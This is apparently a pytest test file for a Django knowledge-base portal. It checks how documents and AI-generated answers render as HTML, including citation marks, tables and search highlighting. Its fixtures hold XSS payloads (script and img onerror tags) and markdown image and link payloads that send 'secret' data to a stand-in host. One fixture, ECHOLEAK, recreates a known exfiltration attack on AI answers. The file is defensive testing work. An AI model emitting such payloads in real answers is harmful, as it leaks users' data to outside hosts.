"""Text of documents and models as HTML: marked where it is cited or searched for, and harmless."""

import re
from html import unescape

import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st

from kb.portal.passages import Span, render
from kb.portal.render import Doubt, render_answer
from kb.portal.snippets import LENGTH, Words

TABLE = "| Model | Litres |\n| --- | --- |\n| CB-150 | 68 |"


def marked(text: str, quote: str, *headings: str) -> str:
    start = text.index(quote)
    return str(render(text, headings, Span(start, start + len(quote))))


def test_blank_lines_part_paragraphs_and_known_headings_stand_out() -> None:
    assert (
        render("Limits\n\nOne.\n\nTwo.", ("Limits",), Span()) == "<h3>Limits</h3>\n<p>One.</p>\n<p>Two.</p>"
    )


def test_a_quote_over_two_paragraphs_is_marked_in_both() -> None:
    assert (
        marked("One two.\n\nThree four.", "two.\n\nThree")
        == "<p>One <mark>two.</mark></p>\n<p><mark>Three</mark> four.</p>"
    )


def test_a_table_of_pipes_becomes_a_table_with_the_cited_row_marked() -> None:
    html = marked(TABLE, "| CB-150 | 68 |")
    assert '<th scope="col">Model</th>' in html
    assert "<td><mark> CB-150 </mark></td><td><mark> 68 </mark></td>" in html


def test_items_in_a_row_are_a_list_and_keep_their_marks() -> None:
    assert (
        marked("Who pays:\n\n(a) the buyer\n\n(b) the seller\n\n2. Costs", "seller", "2. Costs")
        == "<p>Who pays:</p>\n<ul><li>(a) the buyer</li><li>(b) the <mark>seller</mark></li></ul>\n<h3>2. Costs</h3>"
    )


def test_a_cell_may_hold_a_pipe() -> None:
    html = str(render("| a |\n| --- |\n| x \\| y |", (), Span()))
    assert "<td>x | y</td>" in html


def test_lines_with_pipes_that_are_no_table_stay_text() -> None:
    assert render("a | b\nc | d", (), Span()) == "<p>a | b\nc | d</p>"


HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "| <b>x</b> |\n| --- |\n| <i>y</i> |"]


@pytest.mark.parametrize("text", HOSTILE)
def test_html_in_a_document_is_shown_as_text(text: str) -> None:
    html = str(render(text, (text,), Span(0, len(text))))
    assert not any(tag in html for tag in ("<script", "<img", "<b>", "<i>"))


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "<https://evil.example>",
        "[a][b]\n\n[b]: https://evil.example",
        "<a href='https://evil.example'>x</a>",
        "<img src='https://evil.example'>",
    ],
)
def test_an_answer_has_no_link_image_or_html_of_its_own(text: str) -> None:
    html = render_answer(text, {})
    assert not any(tag in html for tag in ("<a", "<img", "<script"))


ECHOLEAK = """\
Here you are [1].

![loading][image]

[See the policy][link] or ![x](https://evil.example/?q=secret "t")

[image]: https://evil.example/pixel?data=secret
[link]: <https://evil.example/?data=secret>

<img src="https://evil.example/?q=secret" onerror="alert(1)"> <javascript:alert(1)> https://evil.example
"""
"""CVE-2025-32711: links by reference and an image that loads by itself; with what AnythingLLM's stream let through
(CVE-2026-32626)."""
ALLOWED = re.compile(
    r"</?(?:p|br|strong|em|h4|[uo]l|li|blockquote|code|pre|hr|table|thead|tbody|tr|t[hd])(?: ?/)?>"
    r'|<a class="cite" href="/documents/x/" data-marker="1">|<span class="hidden">|</span>|</a>'
)


@pytest.mark.parametrize("length", range(0, len(ECHOLEAK) + 1, 7))
def test_no_beginning_of_an_attack_renders_as_more_than_the_allowed_tags(length: int) -> None:
    html = render_answer(ECHOLEAK[:length], {1: "/documents/x/"})
    assert "<" not in ALLOWED.sub("", html)


@given(st.text(alphabet="![]()<>:\"' \nhtps/evil.a1`*_&;#"))
def test_nothing_that_a_model_writes_renders_as_more_than_the_allowed_tags(text: str) -> None:
    assert "<" not in ALLOWED.sub("", render_answer(text, {1: "/documents/x/"}))


def test_the_page_shows_tokens_as_plain_text_while_they_come() -> None:
    """Text cannot load an image or hold a link, whatever it says so far."""
    script = (settings.BASE_DIR / "kb/static/strongroom.js").read_text()
    handler = script[script.index('addEventListener("token"') :].split("});")[0]
    assert "text.textContent += event.data" in handler
    assert "innerHTML" not in handler


def test_a_marker_becomes_a_link_to_its_source_and_an_unknown_one_goes() -> None:
    html = render_answer("**Second** class. [1] First class. [7]", {1: "/documents/x/?citation=3"})
    assert html.startswith('<p><strong>Second</strong> class.<a class="cite" href="/documents/x/?citation=3"')
    assert html.endswith("1</a> First class.</p>\n")


# --- The words of a search ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "text", "marked"),
    [
        ("travel", "Travelling & travels", "<mark>Travelling</mark> &amp; <mark>travels</mark>"),
        ("the sick", "the annual/sick pay", "the annual/<mark>sick</mark> pay"),
        ("ax-4471-b", "Valve AX-4471-B", "Valve <mark>AX-4471-B</mark>"),
        ("the of", "the end of it", "the end of it"),
        ("lt", "a < b", "a &lt; b"),
    ],
)
def test_words_are_marked_in_all_their_forms(query: str, text: str, marked: str) -> None:
    assert Words(query).marked(text) == marked


def test_words_are_marked_in_the_forms_of_their_own_language() -> None:
    marked = Words("Verträge", "de").marked("Kündigung des Vertrages")
    assert marked == "Kündigung des <mark>Vertrages</mark>"
    assert Words("Verträge").marked("Kündigung des Vertrages") == "Kündigung des Vertrages"


def test_a_snippet_is_taken_where_most_of_the_words_stand() -> None:
    text = f"One train. {'Filler goes here. ' * 40}A train in second class. {'More filler. ' * 40}"
    snippet = Words("second class train").snippet(text)
    assert "A <mark>train</mark> in <mark>second</mark> <mark>class</mark>." in snippet
    assert snippet.startswith("…") and snippet.endswith("…")


def test_a_word_longer_than_a_snippet_is_cut() -> None:
    assert len(Words("train").snippet("x" * 100_000)) == LENGTH + 2


@given(text=st.text(), query=st.text())
def test_marking_changes_nothing_of_a_text(text: str, query: str) -> None:
    marked = Words(f"{query} {text[:9]}").marked(text)
    assert unescape(marked.replace("<mark>", "").replace("</mark>", "")) == text


@pytest.mark.parametrize("text", ["**It is so. [1]**", "| a |\n| --- |\n| It is so. [1] |"])
def test_a_doubt_leaves_emphasis_and_tables_as_they_are(text: str) -> None:
    html = render_answer(text, {}, [Doubt(len(text), "weak", "Why?")])
    assert ("<strong>It is so.</strong>" in html) or ("<td>It is so.<span" in html)
    assert '<span class="doubt-why">Why?</span>' in html


def test_a_model_cannot_write_a_doubt_of_its_own() -> None:
    assert render_answer("It is so\ue0000\ue001.", {}, ()) == "<p>It is so0.</p>\n"
